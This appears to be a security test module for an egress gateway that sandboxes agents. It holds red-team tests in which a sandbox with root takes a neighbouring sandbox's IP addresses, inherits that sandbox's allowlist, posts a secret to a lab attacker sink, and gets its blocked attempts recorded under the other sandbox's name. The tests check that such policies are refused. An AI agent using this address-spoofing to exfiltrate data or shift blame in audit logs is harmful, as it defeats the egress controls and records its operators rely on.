"""Red team (second round): a sandbox takes another sandbox's address on the link they share, and with it that
sandbox's allowlist; its attempts are recorded under the other sandbox's name.

Two sandboxes behind one gateway interface (neither names an ``interface``: both are behind ``--sandbox-if``, which
the policy loader accepts silently). The anti-spoofing (`egress.nft.render._prerouting`, chain
``sandbox_sources``) only asks that a packet's source be in the source set of *some* sandbox behind the interface
it came in on; the resolver, the bindings and the proxy then name the sandbox by the source address alone
(`egress.proxy.gate.Gate.sandbox`, `egress.policy.model.Policy.sandbox_for`). An agent with root adds the other
sandbox's address to its own interface (the gateway's ARP/ND finds it there) and speaks from it: its DNS query
is answered under the other sandbox's allowlist and bound to it, and its connection is allowed by it.

Policy tests/security/policies/redteam_sources.yaml: ``agent`` (10.203.1.2, the lab sandbox's own address) may
reach allowed.lab only; ``builder`` (10.203.1.3) may also reach blocked.lab on 8090, where the attacker's sink
listens. Ground truth: the sink's log and the internet-side capture.

Now (fixnft): that policy is refused. Two sandboxes behind one interface, named or both behind ``--sandbox-if``,
load only if each says ``link_pins_sources: true`` (`egress.policy.links`): the loader names file, line and field
for each, and ``egress gateway run`` with it exits 2 before it applies anything (its pre-flight checks again once
``--sandbox-if`` is known, for a sandbox that names that interface). What the setting trusts is the module's
second half: the lab built with tests/security/policies/redteam_sources_pinned.yaml, the operator's statement
that the link pins sources, on the lab's veth, which pins nothing. There the bypass still works, as
docs/security.md says it does where the statement is false: those rows assert that it does (what the setting
trusts, measured; the day the gateway itself tells such sandboxes apart, they fail and are turned round).
"""

from __future__ import annotations

import pathlib
import re
import subprocess
import sys
import time

import pytest

from egress.lab.topology import GATEWAY_SBX_V4, GATEWAY_SBX_V6, server
from egress.policy.loader import check_policy
from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Attacker, SecurityLab, report

pytestmark = pytest.mark.security

BLOCKED = server("blocked")
PORT = 8090
KIT = "from tests.security.redteam_sources_kit import {0}; {0}()"
SECRET = "5ec7e75ec7e7b0a7"
SIZE = 8 * 1024
OWN = {"v4": "10.203.1.2", "v6": "fd00:203:1::2"}
"""The agent's own addresses (sandbox ``agent``)."""
TAKEN = {"v4": "10.203.1.3", "v6": "fd00:203:1::3"}
"""Sandbox ``builder``'s addresses, which the agent takes."""
RESOLVER = {"v4": GATEWAY_SBX_V4, "v6": GATEWAY_SBX_V6}
TARGET = {"v4": BLOCKED.v4, "v6": BLOCKED.v6}


def test_a_policy_with_two_sandboxes_on_one_link_is_refused_naming_file_line_and_field() -> None:
    path = POLICIES / "redteam_sources.yaml"
    problems = [str(problem) for problem in check_policy(path)]
    assert len(problems) == 2, problems
    for problem, (line, name, other) in zip(problems, [(8, "agent", "builder"), (16, "builder", "agent")], strict=True):
        assert problem.startswith(f"{path}:{line}: sandboxes.{name}.link_pins_sources: behind --sandbox-if"), problem
        assert f"with sandbox {other!r}" in problem and "link_pins_sources: true" in problem, problem
    report("redteam/sources-refused", "exfiltration", 0, False, None, "policy refused at load (file:line: field)")


def test_the_gateway_does_not_start_with_it(tmp_path: pathlib.Path) -> None:
    """Fails closed: the gateway's own start, with interfaces that exist, stops at the policy (exit 2)."""
    policy = str(POLICIES / "redteam_sources.yaml")
    argv = [sys.executable, "-m", "egress", "gateway", "run", "--policy", policy, "--sandbox-if", "lo",
            "--uplink-if", "lo", "--upstream-dns", "127.0.0.1", "--state-dir", str(tmp_path)]  # fmt: skip
    done = subprocess.run(argv, check=False, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "sandboxes.builder.link_pins_sources" in done.stderr and "nothing was applied" in done.stderr, done.stderr


@pytest.fixture(scope="module")
def lab(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICIES / "redteam_sources_pinned.yaml")


@pytest.fixture(scope="module")
def sink(lab: SecurityLab) -> Attacker:
    running = lab.attacker("sources-sink", [sys.executable, "-c", KIT.format("sink_main"), str(PORT), *TARGET.values()])
    running.wait_for("listening")
    return running


@pytest.fixture(scope="module")
def taken(lab: SecurityLab) -> None:
    """Root in the sandbox: builder's addresses on the agent's own interface (IPv6 without duplicate detection)."""
    dev = lab.lab.sandbox_if
    for argv in (["ip", "addr", "add", f"{TAKEN['v4']}/24", "dev", dev],
                 ["ip", "-6", "addr", "add", f"{TAKEN['v6']}/64", "dev", dev, "nodad"]):  # fmt: skip
        done = lab.sandbox(argv)
        assert done.returncode == 0, done.stderr


def _attempt(lab: SecurityLab, sink: Attacker, family: str, source: str, label: str) -> tuple[int, bool, str, float]:
    """POST the secret to blocked.lab:8090 from ``source``; (bytes crossed to it, goal, client output, since)."""
    before = len(sink.log())
    since = time.time()
    with lab.capture(label) as capture:
        done = lab.sandbox_python(
            KIT.format("spoofed_post_main"), source, RESOLVER[family], BLOCKED.name, TARGET[family], str(PORT),
            SECRET, str(SIZE), timeout=30,
        )  # fmt: skip
    crossed = capture.result
    assert crossed is not None
    received = sum(int(n) for n in re.findall(r"got (\d+) bytes", sink.log()[before:]))
    goal = received >= SIZE and crossed.contains(SECRET.encode(), TARGET[family])
    return crossed.bytes_to(TARGET[family], PORT, "tcp"), goal, done.stdout + done.stderr, since


@pytest.mark.parametrize("family", ["v4", "v6"])
def test_control_the_agents_own_address_may_not_reach_the_sink(lab: SecurityLab, sink: Attacker, family: str) -> None:
    leaked, goal, output, since = _attempt(lab, sink, family, OWN[family], f"sources-control-{family}")
    reason = lab.reason_of(since, lambda r: r.dport == PORT and r.sandbox == "agent", timeout=10)
    report(
        f"redteam/sources-control-{family}",
        "exfiltration",
        leaked,
        goal,
        reason or None,
        output.replace("\n", " ")[-60:],
    )
    assert not goal and leaked == 0, output
    assert reason, "the agent's own blocked attempt left no record under its name"


@pytest.mark.parametrize("family", ["v4", "v6"])
def test_where_the_link_pins_nothing_a_taken_address_still_gives_the_other_sandboxes_allowlist(
    lab: SecurityLab, sink: Attacker, taken: None, family: str
) -> None:
    leaked, goal, output, since = _attempt(lab, sink, family, TAKEN[family], f"sources-taken-{family}")
    records = lab.records(since)
    named = sorted({r.sandbox for r in records if r.dport in (PORT, 53)})
    report(
        f"redteam/sources-pinned-taken-{family}",
        "exfiltration",
        leaked,
        goal,
        None,
        f"documented risk of link_pins_sources on a link that pins nothing; records name {named}",
    )
    assert goal and leaked > 0, (
        f"the taken address no longer gives builder's allowlist: update docs/security.md: {output}"
    )


def test_where_the_link_pins_nothing_a_blocked_attempt_from_a_taken_address_names_the_other_sandbox(
    lab: SecurityLab, sink: Attacker, taken: None
) -> None:
    """(c), where the operator's statement is false: the agent's blocked attempt (to allowed.lab's address on 8090,
    which neither sandbox allows) is recorded as builder's, and builder's quarantine counts it."""
    since = time.time()
    with lab.capture("sources-blame") as capture:
        done = lab.sandbox_python(
            KIT.format("spoofed_post_main"), TAKEN["v4"], RESOLVER["v4"], "allowed.lab", server("allowed").v4,
            str(PORT), SECRET, "64", timeout=30,
        )  # fmt: skip
    crossed = capture.result
    assert crossed is not None
    found = lab.records_until(since, lambda rs: [r for r in rs if r.dport == PORT and r.action == "block"])
    named = sorted({r.sandbox for r in found if r.dport == PORT})
    said = done.stdout.replace("\n", " ")[-40:]
    leaked = crossed.bytes_to(server("allowed").v4, PORT)
    report(
        "redteam/sources-pinned-blame",
        "unrecorded",
        leaked,
        False,
        found[0].reason if found else None,
        f"as {named}; {said}",
    )
    assert named == ["builder"], f"recorded as {named}: update docs/security.md (link_pins_sources' risk)"
